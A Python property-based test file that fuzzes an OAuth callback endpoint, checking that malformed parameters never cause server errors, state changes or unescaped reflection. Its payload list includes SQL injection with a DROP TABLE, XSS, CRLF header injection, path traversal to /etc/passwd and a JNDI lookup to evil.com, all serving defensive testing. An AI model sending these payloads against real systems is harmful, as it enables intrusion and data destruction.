"""Row 7: malformed callbacks (Hypothesis) never give a 5xx, never change stored state, never reflect input."""
from __future__ import annotations

import collections
from urllib.parse import quote, urlsplit

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from qbo.storage.db import get_db
from tests.conftest import REALM_1

CALLBACK = "/settings/integrations/qbo/callback"
EXAMPLES = 150
IGNORED_TABLES = {"audit_events", "oauth_state_cache"}
PAYLOADS = [
    "", " ", "A" * 10_240, "\x00", "a\x00b", "\r\nSet-Cookie: pwned=1", "%0d%0aLocation:%20https://evil.com",
    "' OR '1'='1", "1; DROP TABLE connections;--", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)", "\u00fcn\u00efc\u00f6d\u00e9 \u2603 \U0001d518", "\u202e\u0644\u0639", "{{7*7}}",
    "${jndi:ldap://evil.com/a}", "../../../etc/passwd", REALM_1, "9" * 33, "access_denied", "invalid_request",
    "server_error\nforged", "AB11" + "x" * 600, "%", "%%00", "&state=", "=",
]
NAMES = ["state", "code", "realmId", "error", "error_description", "intent", "next", "x\x00"]

values = st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=40),
                   st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=300))
queries = st.lists(st.tuples(st.sampled_from(NAMES), values), max_size=8)


def snapshot(app) -> dict[str, list[tuple]]:
    """Every row of every table that holds product state (the audit trail and state cache may grow)."""
    with app.app_context():
        db = get_db()
        return {table: sorted(map(tuple, db.execute(f"SELECT * FROM [{table}]").fetchall()), key=repr)
                for table in db.table_names() if table not in IGNORED_TABLES}


def query_string(pairs: list[tuple[str, str]]) -> str:
    return "&".join(f"{quote(k, safe='')}={quote(v, safe='')}" for k, v in pairs)


def risky(value: str) -> bool:
    return len(value) >= 3 and any(c in value for c in "<>\"'&")


def test_fuzzed_callbacks_never_break_or_change_anything(app, admin, intuit, reliability_figure):
    admin.connect()  # a live connection whose row must survive every malformed callback untouched
    before = snapshot(app)
    assert before["connections"] and before["login_sessions"]
    seen = collections.Counter()

    @settings(max_examples=EXAMPLES, deadline=None, derandomize=True, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    @given(pairs=queries, genuine_state=st.booleans())
    def callback(pairs, genuine_state):
        if genuine_state:  # a real, unused state from this session: only the other parameters are hostile
            state = dict(p.split("=", 1) for p in urlsplit(admin.start_connect()).query.split("&"))["state"]
            pairs = [(k, v) for k, v in pairs if k != "state"] + [("state", state)]
        response = admin.client.get(f"{CALLBACK}?{query_string(pairs)}")
        body = response.get_data(as_text=True)
        seen[response.status_code] += 1
        assert response.status_code in (302, 400), (pairs, response.status_code)
        if response.status_code == 302:
            assert response.headers["Location"] == "/settings/integrations/"
            body = admin.client.get(response.headers["Location"]).get_data(as_text=True)
        assert "Traceback" not in body and 'File "' not in body
        for _, value in pairs:
            if risky(value):
                assert value not in body, f"reflected unescaped: {value!r}"
        assert snapshot(app) == before

    callback()
    reliability_figure("malformed OAuth callbacks", requests=sum(seen.values()),
                       errors_5xx=sum(n for status, n in seen.items() if status >= 500),
                       state_changes=int(snapshot(app) != before))
    assert sum(seen.values()) >= EXAMPLES and set(seen) <= {302, 400}
    print(f"\nM={sum(seen.values())} fuzzed callbacks: {dict(seen)}, 0 5xx, 0 row changes")
